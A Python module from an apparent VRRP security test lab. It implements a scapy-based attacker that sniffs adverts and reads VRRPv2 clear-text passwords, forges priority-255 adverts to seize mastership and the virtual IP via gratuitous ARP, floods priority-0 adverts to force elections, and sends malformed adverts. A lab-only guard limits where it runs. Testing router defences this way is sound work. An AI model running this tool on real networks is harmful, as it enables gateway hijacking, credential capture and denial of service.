"""The lab's attacker: forged VRRP adverts, for the security scenarios. Lab only.

Run by vrrplab inside the `attacker` node (`python -m vrrplab.faults.attack MODE ...`).
It refuses to run anywhere else: vrrplab marks its nodes' processes with
VRRPLAB_LAB_NODE, and a lab node has a network namespace of its own, never
the one of PID 1 (the host's, or the lab supervisor's private one).

Modes:
- rogue: sniff one real advert (learning the version and, for VRRPv2 PASS, the
  password sent in clear), then advertise the VRID with priority 255 every
  interval; with --claim-vip, also put the VIP on our interface and announce it.
- zero-storm: forge priority-0 adverts in the master's name, `--rate` per second,
  forcing the backups into elections over and over.
- sniff: print the first advert's password (what anyone on the LAN can read).
- malformed: a bounded batch of hostile adverts, `--count` of each kind in
  `MALFORMED`, from our own address: priority 255 with a TTL of 64, with a
  wrong checksum, with an unknown version, cut short, for another VRID, with a
  wrong VRRPv2 password (skipped for VRRPv3, which has no authentication).
  Each breaks one RFC 5798 §7.1 / RFC 3768 §7.1 receive check, so a correct
  router discards all of them; then it exits.

It reports on stdout as JSON lines (`sniffed` with the password read,
`forging`, for malformed one `sent` or `skipped` per kind, `stopped` with the
count sent); on SIGTERM it stops forging and gives back a VIP it claimed.
"""

from __future__ import annotations

import argparse
import json
import signal
import subprocess
import sys
import time
from typing import Callable

from vrrplab.linux import outside_lab_node
from vrrplab.vrrp.packet import VRRP_GROUP_V4, VRRP_PROTO, VRRP_TTL


class NotInLab(SystemExit):
    pass


def ensure_inside_lab_node() -> None:
    problem = outside_lab_node("vrrplab.faults.attack")  # the speaker's test too
    if problem is not None:
        raise NotInLab(str(problem))


def sniff_advert(iface: str, vrid: int, timeout: float):
    from scapy.layers.inet import IP
    from scapy.layers.vrrp import VRRP, VRRPv3
    from scapy.sendrecv import sniff

    found = sniff(iface=iface, filter="ip proto 112", count=1, timeout=timeout,
                  lfilter=lambda p: (VRRP in p or VRRPv3 in p) and
                  (p[VRRPv3] if VRRPv3 in p else p[VRRP]).vrid == vrid and IP in p)
    if not found:
        raise SystemExit(f"no advert for VRID {vrid} seen on {iface} in {timeout:g} s")
    return found[0]


def password_of(pkt) -> str | None:
    from scapy.layers.vrrp import VRRP
    if VRRP not in pkt or pkt[VRRP].authtype != 1:
        return None
    raw = pkt[VRRP].auth1.to_bytes(4, "big") + pkt[VRRP].auth2.to_bytes(4, "big")
    return raw.rstrip(b"\0").decode(errors="replace")


def forge(template, src: str, priority: int):
    """An advert like the sniffed one, from `src`, with `priority` (scapy computes checksums)."""
    from scapy.layers.inet import IP
    from scapy.layers.vrrp import VRRP, VRRPv3

    layer = (template[VRRPv3] if VRRPv3 in template else template[VRRP]).copy()
    layer.priority = priority
    del layer.chksum
    return IP(src=src, dst=VRRP_GROUP_V4, ttl=VRRP_TTL) / layer


# --- malformed: one receive check of RFC 5798 §7.1 / RFC 3768 §7.1 broken per kind ---

HOSTILE_PRIORITY = 255  # what each would claim, were it accepted: the owner's priority
BAD_TTL = 64  # a common default TTL: a packet from off the link would have at most this
UNKNOWN_VERSION = 4  # neither VRRPv2 nor VRRPv3
TRUNCATE_BY = 4  # bytes cut off the end: the last address or password bytes are missing
WRONG_PASSWORD = b"mallory!"  # 8 bytes, what VRRPv2 PASS carries
MALFORMED_GAP_S = 0.02  # between two adverts of one kind


def message_of(packet) -> bytes:
    """The VRRP message (IP payload) of a scapy packet, checksums computed."""
    data = bytes(packet)
    return data[(data[0] & 0x0F) * 4:]


def _vrrp_of(template):
    from scapy.layers.vrrp import VRRP, VRRPv3
    return template[VRRPv3] if VRRPv3 in template else template[VRRP]


def _reforged(template, src: str, **fields) -> bytes:
    """A priority-255 message like the template's, with `fields` changed, checksum recomputed."""
    packet = forge(template, src, HOSTILE_PRIORITY)
    for name, value in fields.items():
        setattr(packet.payload, name, value)
    return message_of(packet)


def _hostile_ttl(template, src: str) -> tuple[int, bytes]:
    return BAD_TTL, _reforged(template, src)  # §7.1: MUST verify the TTL is 255


def _hostile_checksum(template, src: str) -> tuple[int, bytes]:
    message = _reforged(template, src)
    # XOR 0x5a5a never swaps 0x0000 and 0xffff, one value in one's complement: always wrong
    wrong = int.from_bytes(message[6:8], "big") ^ 0x5A5A
    return VRRP_TTL, message[:6] + wrong.to_bytes(2, "big") + message[8:]  # §7.1: MUST verify


def _hostile_version(template, src: str) -> tuple[int, bytes]:
    return VRRP_TTL, _reforged(template, src, version=UNKNOWN_VERSION)  # §7.1: MUST verify


def _hostile_truncated(template, src: str) -> tuple[int, bytes]:
    return VRRP_TTL, _reforged(template, src)[:-TRUNCATE_BY]  # §7.1: MUST verify it is complete


def _hostile_vrid(template, src: str, unused_vrid: int | None = None) -> tuple[int, bytes]:
    """For a VRID no router runs (`unused_vrid`: the lab knows which; else the next one)."""
    other = unused_vrid or _vrrp_of(template).vrid % 255 + 1  # §7.1: MUST verify the VRID
    return VRRP_TTL, _reforged(template, src, vrid=other)


def _hostile_password(template, src: str) -> tuple[int, bytes] | None:
    from scapy.layers.vrrp import VRRPv3
    if VRRPv3 in template:
        return None  # RFC 5798 §9: VRRPv3 has no authentication to get wrong
    wrong = WRONG_PASSWORD if password_of(template) != WRONG_PASSWORD.decode() else b"MALLORY?"
    return VRRP_TTL, _reforged(template, src, authtype=1, auth1=int.from_bytes(wrong[:4], "big"),
                          auth2=int.from_bytes(wrong[4:], "big"))  # RFC 3768 §7.1


MALFORMED = {"ttl": _hostile_ttl, "checksum": _hostile_checksum, "version": _hostile_version,
             "truncated": _hostile_truncated, "vrid": _hostile_vrid, "password": _hostile_password}
SKIPPED_WHY = {"password": "VRRPv3 has no authentication (RFC 5798 §9)"}


def malformed_advert(template, src: str, kind: str, unused_vrid: int | None = None):
    """The `kind` of hostile advert (an IP packet) from `src`; None where it cannot apply."""
    from scapy.layers.inet import IP
    from scapy.packet import Raw

    built = _hostile_vrid(template, src, unused_vrid) if kind == "vrid" \
        else MALFORMED[kind](template, src)
    if built is None:
        return None
    ttl, message = built
    return IP(src=src, dst=VRRP_GROUP_V4, ttl=ttl, proto=VRRP_PROTO) / Raw(message)


def claim_vip(iface: str, vip: str) -> None:
    """Take the VIP and tell the LAN (gratuitous ARP), as a master would."""
    from scapy.arch import get_if_hwaddr
    from scapy.layers.l2 import ARP, Ether
    from scapy.sendrecv import sendp

    subprocess.run(["ip", "addr", "add", vip, "dev", iface], check=False, timeout=10)
    ip, mac = vip.split("/")[0], get_if_hwaddr(iface)
    garp = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=mac, psrc=ip, pdst=ip)
    sendp(garp, iface=iface, count=3, inter=0.05, verbose=False)


def release_vip(iface: str, vip: str) -> None:
    """Give back a VIP we claimed, so the lab is as before once the attack stops."""
    subprocess.run(["ip", "addr", "del", vip, "dev", iface], check=False, timeout=10,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def say(event: str, **fields) -> None:
    print(json.dumps({"t": round(time.time(), 6), "event": event, **fields}), flush=True)


def send_malformed(template, iface: str, count: int, running: Callable[[], bool],
                   unused_vrid: int | None = None) -> int:
    """`count` adverts of each kind in `MALFORMED`, from our own address; then `stopped`."""
    from scapy.arch import get_if_addr
    from scapy.sendrecv import send

    src = get_if_addr(iface)
    say("forging", src=src, priority=HOSTILE_PRIORITY, kinds=list(MALFORMED), count=count)
    sent = 0
    for kind in MALFORMED:
        if not running():
            break
        packet = malformed_advert(template, src, kind, unused_vrid)
        if packet is None:
            say("skipped", kind=kind, why=SKIPPED_WHY[kind])
            continue
        send(packet, iface=iface, count=count, inter=MALFORMED_GAP_S, verbose=False)
        sent += count
        say("sent", kind=kind, count=count)
    say("stopped", sent=sent)
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("mode", choices=("rogue", "zero-storm", "sniff", "malformed"))
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--vrid", type=int, default=10)
    parser.add_argument("--interval", type=float, default=1.0, help="rogue: seconds between adverts")
    parser.add_argument("--rate", type=float, default=20.0, help="zero-storm: adverts per second")
    parser.add_argument("--spoof", help="zero-storm: the master's address to speak for")
    parser.add_argument("--claim-vip", help="rogue: also take this VIP (e.g. 192.168.1.1/24)")
    parser.add_argument("--count", type=int, default=5, help="malformed: adverts of each kind")
    parser.add_argument("--unused-vrid", type=int, help="malformed: a VRID no router runs here")
    args = parser.parse_args(argv)
    ensure_inside_lab_node()

    from scapy.sendrecv import send

    running = True

    def stop(_signum, _frame):
        nonlocal running
        running = False

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    template = sniff_advert(args.iface, args.vrid, timeout=10)
    say("sniffed", src=template["IP"].src, password=password_of(template))
    if args.mode == "sniff" or not running:  # stopped while still listening
        return 0
    if args.mode == "malformed":
        return send_malformed(template, args.iface, args.count, lambda: running,
                              args.unused_vrid)
    if args.mode == "rogue":
        from scapy.arch import get_if_addr
        src, priority, period = get_if_addr(args.iface), 255, args.interval
        if args.claim_vip:
            claim_vip(args.iface, args.claim_vip)
    else:
        src, priority, period = args.spoof or template["IP"].src, 0, 1 / args.rate
    packet = forge(template, src, priority)
    say("forging", src=src, priority=priority, period=period)
    sent = 0
    while running:
        send(packet, iface=args.iface, verbose=False)
        sent += 1
        time.sleep(period)
    if args.mode == "rogue" and args.claim_vip:
        release_vip(args.iface, args.claim_vip)
    say("stopped", sent=sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
